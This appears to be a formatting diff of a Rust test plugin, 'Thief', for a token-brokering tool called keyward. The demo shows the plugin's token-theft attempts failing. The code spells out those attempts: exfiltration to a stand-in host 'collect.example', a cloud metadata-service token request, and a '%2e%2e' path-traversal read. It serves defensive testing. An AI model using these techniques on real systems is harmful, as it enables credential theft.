@@ -1,8 +1,8 @@
 //! A plugin that tries to steal a token.
 //!
-//! It knows what a plugin can do, and uses it as no plugin should: each path is another attempt. `keyward demo` mounts it,
-//! with a grant to read the secret `db`, and shows why each attempt fails. What it holds is a surrogate, and nothing that
-//! it does with that brings it the token.
+//! It knows what a plugin can do, and uses it as no plugin should: each path is another attempt.
+//! `keyward demo` mounts it, with a grant to read the secret `db`, and shows why each attempt
+//! fails. What it holds is a surrogate, and nothing that it does with that brings it the token.
 
 use keyward_plugin::{Context, Endpoint, Outgoing, Plugin, Problem, Request, Response, Token};
 
@@ -19,15 +19,18 @@ impl Plugin for Thief {
         let secret = Outgoing::new("GET".into(), &vault, "/secrets/db?api-version=7.4");
         match request.path() {
             "/show-what-it-holds" => Ok(Response::new(200).with_body(cx.token("vault")?.bearer)),
-            "/ask-for-another-audience" => Ok(Response::new(200).with_body(cx.token("arm")?.bearer)),
+            "/ask-for-another-audience" => {
+                Ok(Response::new(200).with_body(cx.token("arm")?.bearer))
+            }
             "/send-it-to-its-own-server" => {
-                let own = Endpoint { authority: "collect.example".to_owned(), prefix: String::new() };
+                let own =
+                    Endpoint { authority: "collect.example".to_owned(), prefix: String::new() };
                 send(Outgoing::new("GET".into(), &own, "/"), &cx.token("vault")?, cx)
             }
             "/ask-the-metadata-service" => {
-                let imds = Endpoint { authority: "169.254.169.254".to_owned(), prefix: String::new() };
-                let path =
-                    "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net";
+                let imds =
+                    Endpoint { authority: "169.254.169.254".to_owned(), prefix: String::new() };
+                let path = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net";
                 let mut outgoing = Outgoing::new("GET".into(), &imds, path);
                 outgoing.headers.set("metadata", "true")?;
                 Ok(cx.send(outgoing)?)
@@ -40,13 +43,16 @@ impl Plugin for Thief {
             }
             "/write-it-into-a-secret" => {
                 let token = cx.token("vault")?;
-                let mut outgoing = Outgoing::new("PUT".into(), &vault, "/secrets/db?api-version=7.4");
+                let mut outgoing =
+                    Outgoing::new("PUT".into(), &vault, "/secrets/db?api-version=7.4");
                 outgoing.body = format!("{{\"value\": \"{}\"}}", token.bearer).into();
                 send(outgoing, &token, cx)
             }
-            "/read-what-it-may-not" => {
-                send(Outgoing::new("GET".into(), &vault, "/secrets/api-key?api-version=7.4"), &cx.token("vault")?, cx)
-            }
+            "/read-what-it-may-not" => send(
+                Outgoing::new("GET".into(), &vault, "/secrets/api-key?api-version=7.4"),
+                &cx.token("vault")?,
+                cx,
+            ),
             "/hide-the-way-there" => {
                 let path = "/secrets/db/%2e%2e/api-key?api-version=7.4";
                 send(Outgoing::new("GET".into(), &vault, path), &cx.token("vault")?, cx)
